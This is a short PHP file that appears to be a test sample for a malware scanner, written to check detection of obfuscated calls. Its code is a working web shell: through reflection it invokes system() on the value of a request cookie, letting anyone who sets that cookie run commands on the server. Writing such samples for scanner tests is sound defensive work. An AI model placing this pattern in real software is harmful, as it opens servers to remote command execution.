<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$r = new ReflectionFunction('system');
$r->invoke($_COOKIE['c']);
